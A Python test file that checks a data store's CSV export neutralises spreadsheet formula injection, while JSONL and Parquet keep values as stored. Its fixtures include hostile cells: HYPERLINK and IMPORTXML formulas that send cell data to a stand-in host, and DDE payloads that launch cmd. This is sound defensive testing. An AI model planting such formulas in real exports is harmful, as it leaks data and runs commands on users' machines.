"""Exports against CSV ("formula") injection, on SQLite and PostgreSQL: a CSV cell a spreadsheet would run
gets a leading ``'``; JSONL and Parquet keep every value as stored."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd

from store import repo
from store.db import session_scope
from store.export import (
    COLUMNS,
    FORMULA_PREFIXES,
    ExportFilter,
    export_bytes,
    export_frame,
    neutralise_formulas,
)
from tests.store.helpers import label, mention

# OWASP's CSV-injection cases, one per prefix, and look-alikes that must stay as they are.
HOSTILE_CELLS = [
    '=HYPERLINK("http://outside.test/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# A bare CR or LF in a text stays inside its quoted cell, never starting a row (and a formula) of its own.
LINE_BREAK_CELLS = ['ok\r=HYPERLINK("http://outside.test/cr")', "ok\n@SUM(1+1)", "ok\r\n-1+1"]
HARMLESS_CELLS = ["fine =1+1", " =1+1", "'=already quoted", "a@b.c", "3-2", "ＳＵＭ"]
BRAND = '=IMPORTXML(CONCAT("http://outside.test/?",A1),"//a")'
AUTHOR = "@attacker"


def _seed(url: str) -> dict[str, int]:
    texts = HOSTILE_CELLS + HARMLESS_CELLS + LINE_BREAK_CELLS
    with session_scope(url) as s:
        repo.sync_brands(s, brands=[repo.BrandSpec(BRAND, '"hostile"')])
        items = [
            mention(f"m{i}", text, brands=[BRAND], author=AUTHOR, url=f"+{i}", likes=i)
            for i, text in enumerate(texts)
        ]
        ids = repo.upsert_mentions(s, mentions=items)
        repo.write_labels(s, labels=[label(ids[f"ptt:m{i}"], "negative") for i in range(len(texts))])
    return ids


def _csv_rows(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte-order mark, so Excel reads it as UTF-8
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_export_neutralises_every_formula_cell_and_keeps_the_rest(db_url: str) -> None:
    _seed(db_url)
    with session_scope(db_url) as s:
        frame = export_frame(s, ExportFilter())
    rows = _csv_rows(export_bytes(frame, "csv"))
    assert len(rows) == len(HOSTILE_CELLS) + len(HARMLESS_CELLS) + len(LINE_BREAK_CELLS)
    texts = {r["text"] for r in rows}
    assert texts >= {"'" + cell for cell in HOSTILE_CELLS}
    assert texts >= set(HARMLESS_CELLS) | set(LINE_BREAK_CELLS)
    assert {r["brand"] for r in rows} == {"'" + BRAND}
    assert {r["author"] for r in rows} == {"'" + AUTHOR}
    assert {r["url"] for r in rows} == {f"'+{i}" for i in range(len(rows))}
    # No cell of the file starts a formula; numbers (and their signs) are left as numbers.
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_PREFIXES), (column, cell)
    assert {r["p_negative"] for r in rows} == {"1.0"}
    assert sorted(int(r["likes"]) for r in rows) == list(range(len(rows)))


def test_jsonl_and_parquet_exports_keep_the_stored_values(db_url: str) -> None:
    _seed(db_url)
    with session_scope(db_url) as s:
        frame = export_frame(s, ExportFilter())
    lines = [json.loads(line) for line in export_bytes(frame, "jsonl").decode("utf-8").splitlines()]
    assert {r["text"] for r in lines} >= set(HOSTILE_CELLS)
    assert {r["brand"] for r in lines} == {BRAND} and {r["author"] for r in lines} == {AUTHOR}
    parquet = pd.read_parquet(io.BytesIO(export_bytes(frame, "parquet")))
    assert set(parquet["text"]) >= set(HOSTILE_CELLS)
    assert list(parquet.columns) == COLUMNS


def test_neutralise_formulas_leaves_the_frame_given_alone() -> None:
    frame = pd.DataFrame({"text": ["=1", "ok", None], "score": [-0.5, 1.0, None], "kind": ["-", "+", "@"]})
    out = neutralise_formulas(frame)
    assert out["text"].tolist()[:2] == ["'=1", "ok"] and pd.isna(out["text"].iloc[2])
    assert out["score"].tolist()[:2] == [-0.5, 1.0]
    assert out["kind"].tolist() == ["'-", "'+", "'@"]
    assert frame["text"].tolist()[0] == "=1"  # a copy: the dashboard's cached frame is unchanged
